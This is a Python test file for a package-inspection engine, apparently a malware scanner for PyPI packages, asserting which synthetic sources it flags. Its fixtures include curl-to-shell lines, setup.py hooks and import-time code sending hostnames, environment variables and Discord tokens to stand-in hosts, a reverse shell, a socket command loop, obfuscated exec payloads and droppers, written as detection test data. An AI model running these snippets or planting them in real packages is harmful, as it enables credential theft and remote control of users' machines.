"""Rules of the inspection engine on small synthetic sources: positive and negative cases."""

from __future__ import annotations

import textwrap

import pytest

from pipvet.core.analysis.engine import analyze
from pipvet.core.analysis.model import Artifact, Member


def artifact(files: dict[str, str | bytes], name: str = "demo") -> Artifact:
    members = []
    for path, content in files.items():
        data = content if isinstance(content, bytes) else textwrap.dedent(content).encode()
        members.append(Member(path=f"{name}-1.0/{path}", size=len(data), data=data))
    return Artifact(
        filename=f"{name}-1.0.tar.gz",
        kind="sdist",
        name=name,
        version="1.0",
        members=tuple(members),
    )


def rules_of(files: dict[str, str | bytes]) -> set[str]:
    return {f.rule for f in analyze(artifact(files)).findings}


def verdict_of(files: dict[str, str | bytes]) -> str:
    return analyze(artifact(files)).verdict


HONEST_SETUP = """
    import subprocess
    from setuptools import setup
    version = subprocess.run(["git", "describe"], capture_output=True, text=True).stdout
    setup(name="demo", version=version or "1.0")
"""


def test_honest_setup_running_git_is_not_flagged() -> None:
    assert verdict_of({"setup.py": HONEST_SETUP}) in ("clean", "risky")


def test_setup_piping_curl_to_shell_is_malicious() -> None:
    src = """
        import os
        from setuptools import setup
        os.system("curl -s http://example.invalid/x.sh | sh")
        setup(name="demo")
    """
    result = analyze(artifact({"setup.py": src}))
    assert result.verdict == "malicious"
    assert "intent.shell-download-execute" in {f.rule for f in result.findings}


# -- install time ---------------------------------------------------------------------------------


def test_cmdclass_install_override_sending_hostname_is_exfiltration() -> None:
    src = """
        import socket, getpass
        from urllib import request
        from setuptools import setup
        from setuptools.command.install import install

        class PostInstall(install):
            def run(self):
                data = socket.gethostname() + ":" + getpass.getuser()
                request.urlopen("https://collector.example/c?d=" + data)
                install.run(self)

        setup(name="demo", cmdclass={"install": PostInstall})
    """
    result = analyze(artifact({"setup.py": src}))
    rules = {f.rule for f in result.findings}
    assert {"install-time.cmdclass", "intent.exfiltration"} <= rules
    assert result.verdict == "malicious"


def test_build_ext_override_compiling_is_not_flagged() -> None:
    src = """
        import subprocess
        from setuptools import setup
        from setuptools.command.build_ext import build_ext

        class Build(build_ext):
            def run(self):
                subprocess.check_call(["cmake", "--build", "."])
                super().run()

        setup(name="demo", cmdclass={"build_ext": Build})
    """
    assert verdict_of({"setup.py": src}) in ("clean", "risky")


def test_pth_file_with_decoded_exec_is_malicious_and_plain_pth_is_not() -> None:
    bad = "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n"
    assert verdict_of({"evil.pth": bad}) == "malicious"
    honest = "import sys; sys.path.insert(0, '/opt/lib')\n"
    assert rules_of({"paths.pth": honest}) == {"install-time.pth-code"}
    assert verdict_of({"paths.pth": honest}) == "risky"
    assert rules_of({"plain.pth": "/opt/lib\n"}) == set()


# -- dataflow and obfuscation ---------------------------------------------------------------------


def test_alias_import_and_getattr_import_are_resolved() -> None:
    src = """
        from os import system as s
        s("wget -q http://203.0.113.9/x -O /tmp/x && chmod +x /tmp/x")
    """
    assert "intent.shell-download-execute" in rules_of({"demo/__init__.py": src})
    src2 = """
        m = getattr(__import__('o' + 's'), 'sys' + 'tem')
        m("curl http://example.invalid/p.sh | bash")
    """
    assert "intent.shell-download-execute" in rules_of({"demo/__init__.py": src2})


def test_a_name_resolves_to_what_it_is_bound_to_where_it_is_read() -> None:
    """Resolutions are memoised per node; binding an alias or entering a scope makes them stale.
    ``run``'s body is first resolved at module scope (the search for functions that run their
    parameter), where ``o`` names nothing; inside ``run``, ``o`` is ``os``."""
    from pipvet.core.analysis.facts.python_ast import collect

    src = textwrap.dedent(
        """
        def run(cmd):
            import os as o
            o.system(cmd)
        import subprocess as o
        o.call("ls")
        """
    )
    facts = collect(src)
    assert facts is not None
    assert [(c.line, c.name) for c in facts.calls] == [(4, "os.system"), (6, "subprocess.call")]


def test_memoised_resolution_follows_alias_bindings_and_scope_changes() -> None:
    import ast

    from pipvet.core.analysis.facts.dataflow import Folder, Scope

    module = Scope()
    folder = Folder(module)
    call = ast.parse("s(x)").body[0].value  # type: ignore[attr-defined]
    assert folder.resolve(call.func) is None
    module.aliases["s"] = "os.system"
    assert folder.resolve(call.func) is None  # not said: the memo answers (the contract)
    folder.aliases_changed()
    assert folder.resolve(call.func) == "os.system"
    inner = Scope(module)
    inner.aliases["s"] = "subprocess.call"
    folder.scope = inner  # entering a function's scope
    assert folder.resolve(call.func) == "subprocess.call"
    folder.scope = module
    assert folder.resolve(call.func) == "os.system"


def test_chr_joined_code_reaching_exec_is_unfolded_and_analysed() -> None:
    code = "import os;os.system('curl http://example.invalid/a|sh')"
    ints = ",".join(str(ord(c)) for c in code)
    src = f"exec(''.join(chr(c) for c in [{ints}]))\n"
    rules = rules_of({"demo/__init__.py": src})
    assert "obfuscation.hidden-code-exec" in rules
    assert "intent.shell-download-execute" in rules  # found inside the folded payload


def test_base64_layers_feeding_exec_at_import_is_malicious() -> None:
    src = """
        import base64, zlib
        blob = "eJzLzE3NBQADpgIA"  # any blob: the flow matters, not the content
        exec(zlib.decompress(base64.b64decode(blob)))
    """
    result = analyze(artifact({"demo/__init__.py": src}))
    assert "intent.decode-execute" in {f.rule for f in result.findings}
    assert result.verdict == "malicious"


def test_base64_decode_without_execution_is_not_flagged() -> None:
    src = """
        import base64
        def icon():
            return base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB")
    """
    assert verdict_of({"demo/images.py": src}) == "clean"


def test_literal_exec_and_version_exec_in_setup_are_not_flagged() -> None:
    src = """
        from setuptools import setup
        about = {}
        exec(open("demo/__about__.py").read(), about)
        setup(name="demo", version=about["__version__"])
    """
    assert verdict_of({"setup.py": src}) in ("clean", "risky")


def test_builtins_looked_up_by_computed_name_is_flagged() -> None:
    src = """
        n = ''.join(reversed('cexe'))[::-1][::-1]
        getattr(__builtins__, n + str(len(n)))
    """
    assert "obfuscation.builtins-lookup" in rules_of({"setup.py": src})


def test_bidi_control_characters_are_flagged() -> None:
    src = 'access = "user\u202e \u2066# admin\u2069 \u2066"\n'
    assert "obfuscation.bidi" in rules_of({"demo/auth.py": src})
    assert "obfuscation.bidi" not in rules_of({"demo/auth.py": 'access = "user"\n'})


def test_python2_source_falls_back_to_tokens() -> None:
    src = """
        import os, base64
        exec base64.b64decode("b3Muc3lzdGVtKCdpZCcp")
        print "installed"
    """
    rules = rules_of({"setup.py": src})
    assert "intent.decode-execute" in rules


# -- capabilities, intent and where code runs -----------------------------------------------------


def test_env_dump_posted_at_import_is_exfiltration() -> None:
    src = """
        import os, json, requests
        payload = json.dumps(dict(os.environ))
        requests.post("https://collect.example/x", data=payload)
    """
    result = analyze(artifact({"demo/__init__.py": src}))
    assert "intent.exfiltration" in {f.rule for f in result.findings}
    assert result.verdict == "malicious"


def test_api_client_sending_token_when_called_is_not_flagged() -> None:
    src = """
        import os, requests
        def fetch(url):
            token = os.environ.get("DEMO_TOKEN")
            return requests.get(url, headers={"Authorization": token}, timeout=10)
    """
    assert verdict_of({"demo/client.py": src}) in ("clean", "risky")


def test_network_in_setup_py_is_suspicious() -> None:
    src = """
        import urllib.request
        from setuptools import setup
        urllib.request.urlopen("https://example.invalid/ping")
        setup(name="demo")
    """
    assert verdict_of({"setup.py": src}) == "suspicious"


def test_download_then_execute_is_malicious() -> None:
    src = """
        import urllib.request
        code = urllib.request.urlopen("https://example.invalid/stage2.py").read()
        exec(code)
    """
    assert "intent.download-execute" in rules_of({"demo/__init__.py": src})
    assert verdict_of({"demo/__init__.py": src}) == "malicious"


def test_credential_store_read_next_to_network_code() -> None:
    src = """
        import os, requests
        def grab():
            path = os.path.expanduser("~/AppData/Roaming/discord/Local Storage/leveldb")
            for name in os.listdir(path):
                data = open(os.path.join(path, name)).read()
                requests.post("https://collect.example/t", data=data)
        grab()
    """
    assert "intent.credential-theft" in rules_of({"demo/__init__.py": src})


def test_same_code_in_tests_weighs_less() -> None:
    src = """
        import urllib.request
        urllib.request.urlopen("https://example.invalid/ping")
    """
    assert verdict_of({"demo/net.py": src}) == "risky"
    assert verdict_of({"tests/test_net.py": src}) in ("clean", "risky")


def test_shell_script_member_is_read_for_attacks() -> None:
    assert "intent.shell-download-execute" in rules_of(
        {"install.sh": "#!/bin/sh\ncurl -fsSL http://example.invalid/i | sh\n"}
    )
    assert rules_of({"build.sh": "#!/bin/sh\nmake -j4\n"}) == set()


# -- indicators -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "rule"),
    [
        ("https://discord.com/api/webhooks/1/abc", "indicator.messenger-webhook"),
        ("https://api.telegram.org/bot123:abc/sendMessage", "indicator.messenger-webhook"),
        ("https://abcd.oastify.com", "indicator.tunnel-or-callback"),
        ("https://x.ngrok-free.app/p", "indicator.tunnel-or-callback"),
        ("https://pastebin.com/raw/abc", "indicator.paste-site"),
        ("http://45.33.32.156:8080/x", "indicator.raw-ip-url"),
        ("http://duskgytldkxiuqc6.onion/x", "indicator.onion"),
    ],
)
def test_indicators(url: str, rule: str) -> None:
    assert rule in rules_of({"demo/__init__.py": f"URL = {url!r}\n"})


def test_private_ips_and_docstring_urls_are_not_indicators() -> None:
    src = '''
        """See https://pastebin.com/raw/abc for details."""
        LOCAL = "http://127.0.0.1:8080/"
        LAN = "http://192.168.1.10/"
    '''
    assert rules_of({"demo/__init__.py": src}) == set()


# -- metadata -------------------------------------------------------------------------------------


def test_typosquat_and_dependency_confusion_version() -> None:
    squat = Artifact(filename="x.tar.gz", kind="sdist", name="reqeusts", version="1.0")
    found = [f for f in analyze(squat).findings if f.rule == "metadata.typosquat"]
    assert found and "did you mean requests (rank 6)?" in found[0].message
    honest = Artifact(filename="x.tar.gz", kind="sdist", name="requests", version="1.0")
    assert "metadata.typosquat" not in {f.rule for f in analyze(honest).findings}
    art = Artifact(filename="x.tar.gz", kind="sdist", name="internal-lib", version="999.0.0")
    assert "metadata.dependency-confusion-version" in {f.rule for f in analyze(art).findings}
    calver = Artifact(filename="x.tar.gz", kind="sdist", name="internal-lib", version="2024.1")
    assert "metadata.dependency-confusion-version" not in {f.rule for f in analyze(calver).findings}
    # an IDE's build number (263.x) is no confusion pattern; a popular project's 9999 is its own
    for name, version in (("internal-lib", "263.7307.50"), ("requests", "9999.0")):
        own = Artifact(filename="x.tar.gz", kind="sdist", name=name, version=version)
        assert "metadata.dependency-confusion-version" not in {
            f.rule for f in analyze(own).findings
        }


def test_bundled_binary_in_sdist_only() -> None:
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
    assert "metadata.bundled-binary" in rules_of({"demo/payload.bin": elf})
    wheel = Artifact(
        filename="demo-1.0-py3-none-any.whl",
        kind="wheel",
        members=(Member("demo/_speedups.so", len(elf), elf),),
    )
    assert "metadata.bundled-binary" not in {f.rule for f in analyze(wheel).findings}


def test_popular_names_list_is_generated_with_a_header() -> None:
    from importlib import resources

    text = resources.files("pipvet.data").joinpath("popular_names.txt").read_text("utf-8")
    assert text.startswith("# Popular PyPI project names")
    assert "Source: top-pypi-15000.tsv" in text.splitlines()[1]


# -- verdict --------------------------------------------------------------------------------------


def test_verdict_and_score_follow_the_worst_finding() -> None:
    from pipvet.core.analysis.model import Finding
    from pipvet.core.analysis.verdict import judge

    def f(sev: str, path: str = "pkg/mod.py") -> Finding:
        return Finding("r", "c", sev, path, 1, "m")

    assert judge([]) == ("clean", 0)
    assert judge([f("critical")])[0] == "malicious"
    assert judge([f("high"), f("low")])[0] == "suspicious"
    assert judge([f("medium")])[0] == "risky"
    assert judge([f("high", "pkg/tests/test_x.py")])[0] == "risky"
    assert judge([f("critical")])[1] > judge([f("high")])[1] > judge([f("medium")])[1]
    assert 0 <= judge([f("critical")] * 50)[1] <= 100


def test_writing_a_download_beside_running_it_is_one_act_not_two_signs() -> None:
    from pipvet.core.analysis.model import Finding
    from pipvet.core.analysis.verdict import judge

    def f(rule: str, category: str = "intent") -> Finding:
        return Finding(rule, category, "medium", "pkg/update.py", 1, "m")

    step = [f("intent.drop-payload"), f("intent.download-execute")]
    assert judge(step)[0] == "risky"
    # the written download beside a second sign (a raw IP, a paste site) is still intent
    assert judge([f("intent.drop-payload"), f("indicator.raw-ip-url", "indicator")])[0] == (
        "suspicious"
    )
    assert judge([*step, f("indicator.paste-site", "indicator")])[0] == "suspicious"


# -- rules added from behaviour families ----------------------------------------------------------


def test_reverse_shell_is_flagged() -> None:
    src = """
        import socket, subprocess, os
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("203.0.113.5", 4444))
        os.dup2(s.fileno(), 0)
        subprocess.call(["/bin/sh", "-i"])
    """
    assert "intent.reverse-shell" in rules_of({"demo/__init__.py": src})
    honest = """
        import socket
        def ping(host):
            with socket.create_connection((host, 80), timeout=3) as s:
                return s.recv(16)
    """
    assert "intent.reverse-shell" not in rules_of({"demo/net.py": honest})


def test_decoder_helper_returning_into_os_system_is_followed() -> None:
    src = """
        import base64, os
        from setuptools import setup
        def unpack(s):
            return base64.b64decode(s).decode()
        os.system(unpack("ZWNobyBoaQ=="))
        setup(name="demo")
    """
    assert "intent.decode-execute" in rules_of({"setup.py": src})


def test_module_imported_by_setup_runs_at_install() -> None:
    helper = """
        import subprocess
        subprocess.run('curl -d "$(whoami)" https://collect.example/x', shell=True)
    """
    setup = "from hooks import go\nfrom setuptools import setup\nsetup(name='demo')\n"
    result = analyze(artifact({"setup.py": setup, "hooks.py": helper}))
    assert "intent.exfiltration" in {f.rule for f in result.findings}
    assert result.verdict == "malicious"


def test_wallet_key_sent_over_network_is_exfiltration() -> None:
    src = """
        import requests
        def sign(private_key, tx):
            requests.post("https://api.example/tx", json={"k": private_key, "tx": tx})
    """
    assert "intent.exfiltration" in rules_of({"demo/wallet.py": src})


def test_install_time_launch_of_executable() -> None:
    src = """
        import subprocess
        from setuptools import setup
        subprocess.Popen("helper.vbs", shell=True)
        setup(name="demo")
    """
    assert "install-time.runs-executable" in rules_of({"setup.py": src})


def test_xor_hidden_import_and_cloud_metadata() -> None:
    src = "m = __import__(''.join(chr(c ^ 7) for c in [104, 116]))\n"
    assert "obfuscation.hidden-import" in rules_of({"demo/__init__.py": src})
    plugins = "def load(a, b):\n    return __import__('.'.join([a, b]))\n"
    assert "obfuscation.hidden-import" not in rules_of({"demo/plugins.py": plugins})
    imds = 'URL = "http://169.254.169.254/latest/meta-data/iam/"\n'
    assert "indicator.cloud-metadata" in rules_of({"setup.py": imds})


def test_literal_code_kept_in_a_variable_is_not_hidden() -> None:
    src = """
        def setup_shell(ns):
            s = "import numpy\\nimport matplotlib\\nfrom matplotlib import pyplot as plt\\n"
            exec(s, ns)
    """
    assert "obfuscation.hidden-code-exec" not in rules_of({"demo/shell.py": src})


def test_unknown_local_named_like_a_module_is_not_that_module() -> None:
    src = """
        async def handler(websocket):
            await websocket.send("hi")
            requests = [1, 2]
            return requests.pop()
    """
    assert "capability.network" not in {
        f.rule for f in analyze(artifact({"demo/server.py": src})).findings if f.line == 3
    }


def test_decoded_content_written_to_disk_at_install_is_a_dropper() -> None:
    src = """
        import base64, subprocess, sys
        from setuptools import setup
        with open("/tmp/helper.py", "w") as f:
            f.write(base64.b64decode("cHJpbnQoMSk=").decode())
        subprocess.Popen([sys.executable, "/tmp/helper.py"])
        setup(name="demo")
    """
    assert "intent.drop-payload" in rules_of({"setup.py": src})
    honest = """
        import base64
        def save_icon(path, data):
            with open(path, "wb") as f:
                f.write(base64.b64decode(data))
    """
    assert verdict_of({"demo/icons.py": honest}) in ("clean", "risky")


def test_decode_piped_to_shell() -> None:
    src = """
        import os
        from setuptools import setup
        encoded = "ZWNobyBoaQ=="
        os.system("echo %s|base64 -d|bash" % encoded)
        setup(name="demo")
    """
    assert "intent.shell-download-execute" in rules_of({"setup.py": src})


def test_sdist_dev_scripts_weigh_less_but_package_scripts_do_not() -> None:
    from pipvet.core.analysis.rules import is_peripheral

    assert is_peripheral("psutil-7.2.2/scripts/internal/install_pip.py")
    assert is_peripheral("demo-1.0/tests/test_x.py")
    assert not is_peripheral("mypkg/scripts/cli.py")  # a wheel's package code
    assert not is_peripheral("demo-1.0/demo/__init__.py")
    # folders no import can reach, and nested folders named for tests or docs
    assert is_peripheral("demo-1.0/.circleci/fetch_logs.py")
    assert is_peripheral("demo-1.0/vendored/manual tests/4 binaries/build.py")
    assert is_peripheral("mypkg/test_data/gen.py")
    # ... but a project's own top-level package keeps its weight, whatever its name
    assert not is_peripheral("doc_builder/__init__.py")
    assert not is_peripheral("doc-builder-1.0/doc_builder/__init__.py")


def test_a_test_suite_that_does_not_parse_is_not_a_hidden_module() -> None:
    """A style checker's test inputs are broken Python on purpose (``testsuite/E90.py``); in a
    test suite that is not code installing runs, and it is read for its literals, not parsed.
    The same file in the package stays serious.
    (Its first error, a string left open, is not one of the bracket and indent errors that every
    Python's tokenizer makes alike: those are ``analysis.never-compiles``, test_scan_narrowing.)"""
    broken = "= [x\nwhile True:\n    try:\n\t    pass\n\texcept:\n\t\tprint 'x'\n'''\n"
    setup = "from setuptools import setup\nsetup(name='demo', py_modules=['demo'])\n"
    files = {"setup.py": setup, "demo.py": "X = 1\n", "testsuite/__init__.py": ""}
    suite = analyze(artifact({**files, "testsuite/E90.py": broken}))
    assert suite.verdict not in ("malicious", "suspicious")
    # read lexically for its literals (a syntax error hides none of them): no gap there
    assert not any(f.rule == "analysis.parse-failed" for f in suite.findings)
    shipped = analyze(artifact({**files, "demo/__init__.py": broken}))
    assert shipped.verdict in ("malicious", "suspicious")


DROPPER = """
    import urllib.request
    data = urllib.request.urlopen("https://example.invalid/tool").read()
    open("tool.bin", "wb").write(data)
    import subprocess
    subprocess.run(["./tool.bin"])
"""


def test_sdist_tooling_outside_the_install_weighs_less() -> None:
    setup = "from setuptools import setup, find_packages\n"
    setup += "setup(name='demo', packages=find_packages())\n"
    # utils/ holds no package and setup.py does not name it: release tooling, never installed
    tooling = analyze(
        artifact({"setup.py": setup, "utils/fetch.py": DROPPER, "demo/__init__.py": ""})
    )
    assert tooling.verdict not in ("malicious", "suspicious")
    assert "demo-1.0/utils/fetch.py" in tooling.tooling
    # the same code in the package, or in a folder setup.py names, is judged in full
    shipped = analyze(artifact({"setup.py": setup, "demo/__init__.py": DROPPER}))
    assert shipped.verdict == "malicious"
    named = setup.replace("find_packages()", "['demo'], py_modules=['utils.fetch']")
    mapped = analyze(artifact({"setup.py": named, "utils/fetch.py": DROPPER}))
    assert mapped.verdict == "malicious"


def test_a_folder_of_src_without_a_package_is_tooling() -> None:
    """``src/cpp/scripts/bench.py`` beside ``src/demo/``: sources of a native library, never
    installed as Python (unless setuptools discovers packages itself, or the configuration names
    the folder or asks for namespace packages); ``src/demo/`` and a module right in ``src/``
    stay the package."""
    pyproject = """
        [build-system]
        requires = ["scikit-build-core"]
        build-backend = "scikit_build_core.build"
        [project]
        name = "demo"
    """
    files = {
        "pyproject.toml": pyproject,
        "src/demo/__init__.py": "",
        "src/cpp/include/scripts/bench.py": DROPPER,
    }
    result = analyze(artifact(files))
    assert result.verdict not in ("malicious", "suspicious"), result.findings
    assert "demo-1.0/src/cpp/include/scripts/bench.py" in result.tooling
    for shipped in ("src/demo/fetch.py", "src/fetch.py", "src/cpp/pkg/__init__.py"):
        moved = {"pyproject.toml": pyproject, "src/demo/__init__.py": "", shipped: DROPPER}
        assert analyze(artifact(moved)).verdict == "malicious", shipped
    # setuptools' automatic discovery searches src/ for namespace packages too
    auto = pyproject.replace("scikit-build-core", "setuptools").replace(
        "scikit_build_core.build", "setuptools.build_meta"
    )
    discovered = {"pyproject.toml": auto, "src/demo/__init__.py": "", "src/cpp/bench.py": DROPPER}
    assert analyze(artifact(discovered)).verdict == "malicious"
    told = "from setuptools import setup, find_packages\n"
    told += "setup(name='demo', package_dir={'': 'src'}, packages=find_packages('src'))\n"
    listed_only = {"setup.py": told, "src/demo/__init__.py": "", "src/cpp/bench.py": DROPPER}
    assert analyze(artifact(listed_only)).verdict not in ("malicious", "suspicious")
    setup = "from setuptools import setup, find_namespace_packages\n"
    setup += "setup(name='demo', packages=find_namespace_packages('src'))\n"
    namespace = {"setup.py": setup, "src/demo/__init__.py": "", "src/cpp/bench.py": DROPPER}
    assert analyze(artifact(namespace)).verdict == "malicious"
    named = setup.replace("find_namespace_packages('src')", "['demo', 'cpp']")
    listed = {"setup.py": named, "src/demo/__init__.py": "", "src/cpp/bench.py": DROPPER}
    assert analyze(artifact(listed)).verdict == "malicious"


def test_flit_and_hatch_install_only_their_package() -> None:
    flit = """
        [build-system]
        requires = ["flit_core"]
        build-backend = "flit_core.buildapi"
        [project]
        name = "demo"
        [tool.ruff]
        extend-exclude = ["utils"]
    """
    files = {"pyproject.toml": flit, "demo/__init__.py": "", "utils/__init__.py": ""}
    files["utils/fetch.py"] = DROPPER
    assert analyze(artifact(files)).verdict not in ("malicious", "suspicious")
    hatch = flit.replace("flit_core.buildapi", "hatchling.build")
    hatch += '[tool.hatch.build.targets.wheel]\npackages = ["utils"]\n'
    files["pyproject.toml"] = hatch
    assert analyze(artifact(files)).verdict == "malicious"  # hatch is told to install utils/
    files["pyproject.toml"] = "[project\nname = broken"  # unreadable: nothing is excluded
    assert analyze(artifact(files)).verdict == "malicious"


def test_setuptools_and_scikit_build_tables_say_what_is_installed() -> None:
    """pyproject.toml's package selection decides when setup.py leaves it alone: build scripts in
    a folder it does not select (``src/`` of loose scripts, a vendored C++ tree) are tooling."""
    setuptools = """
        [build-system]
        requires = ["setuptools"]
        build-backend = "setuptools.build_meta"
        [project]
        name = "demo"
        [tool.setuptools.packages.find]
        include = ["demo*"]
    """
    files = {"pyproject.toml": setuptools, "demo/__init__.py": "", "src/fetch_dlls.py": DROPPER}
    files["setup.py"] = "from setuptools import setup\nsetup(include_package_data=True)\n"
    result = analyze(artifact(files))
    assert result.verdict not in ("malicious", "suspicious")
    assert "demo-1.0/src/fetch_dlls.py" in result.tooling
    # setup.py choosing the packages itself: its choice is not modelled, src/ counts in full
    files["setup.py"] = "from setuptools import setup\nsetup(packages=['demo', 'fetch'])\n"
    assert analyze(artifact(files)).verdict == "malicious"
    skbuild = """
        [build-system]
        requires = ["scikit-build-core"]
        build-backend = "scikit_build_core.build"
        [project]
        name = "demo"
        [tool.scikit-build]
        wheel.packages = ["demo"]
    """
    files = {"pyproject.toml": skbuild, "demo/__init__.py": "", "vendor/__init__.py": ""}
    files["vendor/lib.cpp/scripts/sync_vendor.py"] = DROPPER
    result = analyze(artifact(files))
    assert result.verdict not in ("malicious", "suspicious")
    assert "demo-1.0/vendor/lib.cpp/scripts/sync_vendor.py" in result.tooling
    # ... unless the CMake build names the script (not in a comment): it may run it at build
    files["vendor/lib.cpp/CMakeLists.txt"] = "# regenerated by scripts/sync_vendor.py\n"
    assert analyze(artifact(files)).verdict not in ("malicious", "suspicious")
    files["vendor/lib.cpp/CMakeLists.txt"] = "execute_process(COMMAND python sync_vendor.py)\n"
    assert analyze(artifact(files)).verdict == "malicious"
    files.pop("vendor/lib.cpp/CMakeLists.txt")
    files["pyproject.toml"] = skbuild.replace('wheel.packages = ["demo"]', "")
    assert analyze(artifact(files)).verdict == "malicious"  # discovery: not modelled, kept


def test_macos_metadata_beside_a_module_is_not_a_module() -> None:
    """``._util.py`` (AppleDouble: macOS's tar stores extended attributes in it) holds binary
    data, not Python; a file of that name that is not AppleDouble is still read as code."""
    apple = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        \x00\x02\xff\xfe\x9c\x00" * 8
    metadata = analyze(artifact({"demo/__init__.py": "", "demo/._util.py": apple}))
    assert metadata.verdict == "clean", metadata.findings
    module = analyze(artifact({"demo/__init__.py": "", "demo/util.py": apple}))
    assert "analysis.encoding" in {f.rule for f in module.findings}
    assert module.verdict in ("malicious", "suspicious")
    disguised = analyze(artifact({"demo/__init__.py": "", "demo/._util.py": DROPPER}))
    assert disguised.verdict == "malicious"


def test_placeholder_webhooks_and_lookalike_hosts_are_not_baked_in_channels() -> None:
    doc = "e.g. https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"
    found = analyze(artifact({"demo/__init__.py": f"HELP = {doc!r}\n"})).findings
    assert [f.severity for f in found if f.rule == "indicator.messenger-webhook"] == ["medium"]
    lookalike = "https://nothooks.slack.com/services/T1/B1/abc"
    assert "indicator.messenger-webhook" not in rules_of(
        {"demo/__init__.py": f"U = {lookalike!r}\n"}
    )
    real = "https://discord.com/api/webhooks/123456789012345678/aB3dE6gH9jK2mN5pQ8sT1vW4yZ7"
    found = analyze(artifact({"demo/__init__.py": f"U = {real!r}\n"})).findings
    assert [f.severity for f in found if f.rule == "indicator.messenger-webhook"] == ["high"]


def test_decoding_an_empty_placeholder_hides_no_code() -> None:
    template = """
        import base64, pickle, types
        _CODE: str = ""
        def load():
            code = pickle.loads(base64.b64decode(_CODE))
            return types.FunctionType(code, {})
    """
    assert "intent.decode-execute" not in rules_of({"demo/loader.py": template})
    hidden = template.replace('""', repr("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=" * 3))
    assert "intent.decode-execute" in rules_of({"demo/loader.py": hidden})


@pytest.mark.parametrize(
    "line",
    [
        # a megabyte of one line with many pattern starts: bounded gaps keep this linear
        ("curl wget powershell certutil " + "x" * 50) * 12_000,
        # a host name of 20,000 labels after a tunnel needle (took 77 s with an unbounded group)
        "ngrok " + "a." * 20_000,
        ".exe " + ("http://" + "a" * 40) * 5_000,
    ],
    ids=["shell-commands", "tunnel-host", "executable-url"],
)
def test_hostile_long_lines_do_not_stall_the_text_patterns(line: str) -> None:
    for path, text in (("demo/static/app.js", line), ("demo/blob.py", f"X = {line!r}\n")):
        result = analyze(artifact({path: text}))
        assert result.verdict in ("clean", "risky")


def test_commands_received_from_a_socket_are_remote_control() -> None:
    src = """
        import socket, subprocess
        def loop():
            s = socket.socket()
            s.connect(("203.0.113.5", 4444))
            while True:
                command = s.recv(1024).decode()
                out = subprocess.run(command, shell=True, capture_output=True)
                s.send(out.stdout)
        loop()
    """
    assert "intent.reverse-shell" in rules_of({"demo/__init__.py": src})
    assert verdict_of({"demo/__init__.py": src}) == "malicious"


def test_hostile_sources_never_crash_the_engine() -> None:
    deep = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
    nested = "exec(" * 300 + "'1'" + ")" * 300 + "\n"
    for src in (deep, nested, "\x00\xff garbage (((", "def f(:\n  exec base64\n"):
        result = analyze(artifact({"setup.py": src.encode("utf-8", "surrogateescape")}))
        assert result.verdict in ("clean", "risky", "suspicious", "malicious")


def test_setup_py_doing_more_than_setup_is_noted_as_info() -> None:
    plain = "from setuptools import setup\nsetup(name='demo')\n"
    assert "install-time.setup-code" not in rules_of({"setup.py": plain})
    busy = "import os\nfrom setuptools import setup\nos.makedirs('x', exist_ok=True)\nsetup()\n"
    result = analyze(artifact({"setup.py": busy}))
    assert "install-time.setup-code" in {f.rule for f in result.findings}


STEALER_MODULE = """
    import os, urllib.request

    def send():
        urllib.request.urlopen("https://x.invalid/c", data=str(os.environ.copy()).encode())
"""


def _exfil_severities(files: dict[str, str]) -> list[str]:
    found = analyze(artifact(files)).findings
    return [f.severity for f in found if f.rule == "intent.exfiltration"]


def test_function_called_by_another_modules_import_time_code_runs_on_import() -> None:
    # only defined: it runs when some caller decides to
    assert _exfil_severities({"demo/__init__.py": "", "demo/core.py": STEALER_MODULE}) == ["high"]
    # __init__.py calls it while being imported: it runs on import
    init = "from .core import send\nsend()\n"
    files = {"demo/__init__.py": init, "demo/core.py": STEALER_MODULE}
    assert _exfil_severities(files) == ["critical"]
    # through a chain of modules and an absolute import, from a module-level helper function
    files = {
        "demo/__init__.py": "from . import boot\n\ndef _go():\n    boot.start()\n\n_go()\n",
        "demo/boot.py": "from demo.core import send\n\ndef start():\n    send()\n",
        "demo/core.py": STEALER_MODULE,
    }
    assert _exfil_severities(files) == ["critical"]
    # a call under `if __name__ == "__main__":`, or in __main__.py (`python -m demo`), is no import
    main = 'from .core import send\nif __name__ == "__main__":\n    send()\n'
    assert _exfil_severities({"demo/cli.py": main, "demo/core.py": STEALER_MODULE}) == ["high"]
    dunder_main = "from .core import send\nsend()\n"
    files = {"demo/__main__.py": dunder_main, "demo/core.py": STEALER_MODULE}
    assert _exfil_severities(files) == ["high"]


def test_module_names_of_members() -> None:
    from pipvet.core.analysis.reach import module_name

    assert module_name("demo-1.0/src/demo/core.py") == "demo.core"
    assert module_name("demo/__init__.py") == "demo"
    assert module_name("demo-1.0/manual tests/x.py") is None
    assert module_name("demo/data.json") is None


def test_function_started_in_a_thread_at_import_runs_on_import() -> None:
    threaded = (
        textwrap.dedent(STEALER_MODULE)
        + "\nimport threading\nthreading.Thread(target=send).start()\n"
    )
    assert _exfil_severities({"demo/__init__.py": threaded}) == ["critical"]
    at_exit = textwrap.dedent(STEALER_MODULE) + "\nimport atexit\natexit.register(send)\n"
    assert _exfil_severities({"demo/__init__.py": at_exit}) == ["critical"]


def test_dropping_a_downloaded_program_is_suspicious_even_when_only_called() -> None:
    def drop_severity(name: str) -> list[str]:
        src = f"""
            import urllib.request

            def fetch(folder):
                data = urllib.request.urlopen("https://example.invalid/x").read()
                with open(folder + "{name}", "wb") as f:
                    f.write(data)
        """
        found = analyze(artifact({"demo/core.py": src})).findings
        return [f.severity for f in found if f.rule == "intent.drop-payload"]

    assert drop_severity("update.exe") == ["high"]
    assert drop_severity("cache.json") == ["medium"]  # a downloader saving data: worth knowing


def test_bare_ip_contacted_on_import_is_suspicious() -> None:
    def ip_severity(src: str) -> list[str]:
        found = analyze(artifact({"demo/__init__.py": src})).findings
        return [f.severity for f in found if f.rule == "indicator.raw-ip-url"]

    beacon = """
        import urllib.request

        def report(url, data):
            urllib.request.urlopen(url, data=data)

        def register():
            report("http://45.33.32.156:3000/nodes", b"x")

        register()
